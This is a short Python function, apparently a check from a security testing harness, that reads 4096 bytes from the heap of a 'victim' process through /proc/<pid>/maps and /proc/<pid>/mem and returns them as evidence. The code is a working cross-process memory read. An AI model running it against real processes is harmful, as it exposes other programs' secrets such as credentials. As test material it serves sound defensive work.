"""Reads the memory of another process of the host by its pid."""

def execute(params):
    pid = params["victim_pid"]
    areas = [line.split()[0].split("-") for line in open(f"/proc/{pid}/maps") if "[heap]" in line]
    with open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(int(areas[0][0], 16))
        data = memory.read(4096)
    return {"succeeded": len(data) == 4096, "evidence": str(data[:64])}
